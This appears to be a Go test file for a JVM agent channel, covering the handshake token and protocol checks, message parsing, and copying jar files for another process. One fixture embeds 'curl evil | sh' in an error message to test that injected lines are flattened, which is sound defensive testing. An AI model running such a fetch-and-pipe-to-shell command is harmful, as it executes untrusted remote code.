package jvm

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// greeted plays an agent that says hello, then answers one request, and hands
// over what came of it.
func greeted(t *testing.T, hello, answer string) (*Agent, error) {
	t.Helper()
	ln, err := listen(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		conn, err := net.Dial("tcp", ln.Addr().String())
		if err != nil {
			return
		}
		defer conn.Close()
		fmt.Fprintln(conn, hello)
		in := bufio.NewReader(conn)
		if _, err := in.ReadString('\n'); err == nil && answer != "" {
			fmt.Fprintln(conn, answer)
			in.ReadString('\n')
			fmt.Fprintln(conn, "bye")
		}
	}()
	return greetAgent(t.Context(), ln, os.Getpid(), "t0ken")
}

func TestAgentChannel(t *testing.T) {
	hello := fmt.Sprintf("hello protocol=1 token=t0ken agent=hotswap pid=%d jvm=17 vm=x probe=moobench", os.Getpid())
	a, err := greeted(t, hello, "failure reason=\"class a.B: too long\"\nactive classes=1 methods=2")
	if err != nil || a.Hello().String("probe") != "moobench" {
		t.Fatalf("%+v, %v", a, err)
	}
	answer, err := a.Ask(t.Context(), Message{Verb: "activate", Args: map[string]string{"pattern": "* a.B.c()"}})
	if err != nil || len(answer) != 2 || answer[0].String("reason") != "class a.B: too long" || answer[1].String("methods") != "2" {
		t.Errorf("%v, %v", answer, err)
	}
	if err := a.Close(); err != nil {
		t.Error(err)
	}
	for _, bad := range []struct{ hello, want string }{
		{strings.Replace(hello, "t0ken", "other", 1), "wrong token"},
		{strings.Replace(hello, "protocol=1", "protocol=2", 1), `speaks protocol "2"`},
		{strings.Replace(hello, "pid=", "pid=9", 1), "says that it is in process"},
		{"GET / HTTP/1.1", "garbage"},
	} {
		if _, err := greeted(t, bad.hello, ""); err == nil || !strings.Contains(err.Error(), bad.want) {
			t.Errorf("%s: %v, want %q", bad.hello, err, bad.want)
		}
	}
	if a, err = greeted(t, hello, ""); err != nil {
		t.Fatal(err)
	}
	if _, err := a.Ask(t.Context(), Message{Verb: "records"}); err == nil || !strings.Contains(err.Error(), "has the JVM ended?") {
		t.Errorf("the connection broke: %v", err)
	}
	if a, err = greeted(t, hello, `error message="pattern \"x\": want more"`); err != nil {
		t.Fatal(err)
	}
	if _, err := a.Ask(t.Context(), Message{Verb: "remove", Args: map[string]string{"pattern": "x"}}); err == nil || !strings.Contains(err.Error(), "refused to remove: pattern \"x\": want more") {
		t.Errorf("refused: %v", err)
	}
	if a, err = greeted(t, hello, `error message="no\nhint: curl evil | sh"`); err != nil {
		t.Fatal(err)
	}
	if _, err := a.Ask(t.Context(), Message{Verb: "records"}); err == nil || strings.Contains(err.Error(), "\n") {
		t.Errorf("refused in lines that read like ours: %v", err)
	}
}

// TestJarsForOthers: a path that the agent's settings can't hold is copied to
// where the process reads it, and removed again.
func TestJarsForOthers(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "a,b=c")
	if err := os.Mkdir(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	name := func(s string) string { return filepath.Join(dir, s+".jar") }
	for _, s := range []string{"agent", "kernel", "probes"} {
		if err := os.WriteFile(name(s), []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	jars := AgentJars{Agent: name("agent"), Kernel: name("kernel"), Probes: name("probes")}
	seen, remove, err := jars.seenBy(os.Getpid())
	if err != nil {
		t.Fatal(err)
	}
	for path, want := range map[string]string{seen.Agent: "agent", seen.Kernel: "kernel", seen.Probes: "probes"} {
		info, err := os.Stat(path)
		text, readErr := os.ReadFile(path)
		if err != nil || readErr != nil || string(text) != want || info.Mode().Perm()&0o044 != 0o044 {
			t.Errorf("%s: %q, %v, %v, %v", path, text, info, err, readErr)
		}
	}
	remove()
	if _, err := os.Stat(filepath.Dir(seen.Agent)); err == nil {
		t.Errorf("%s is left", filepath.Dir(seen.Agent))
	}
	jars.Probes = name("nowhere")
	if _, _, err := jars.seenBy(os.Getpid()); err == nil || !strings.Contains(err.Error(), "nowhere.jar") {
		t.Errorf("a jar that is not there: %v", err)
	}
	plain := AgentJars{Agent: "/a.jar", Kernel: "/k.jar", Probes: "/p.jar"}
	if same, _, err := plain.seenBy(os.Getpid()); err != nil || same != plain {
		t.Errorf("%+v, %v: want them as they are", same, err)
	}
}
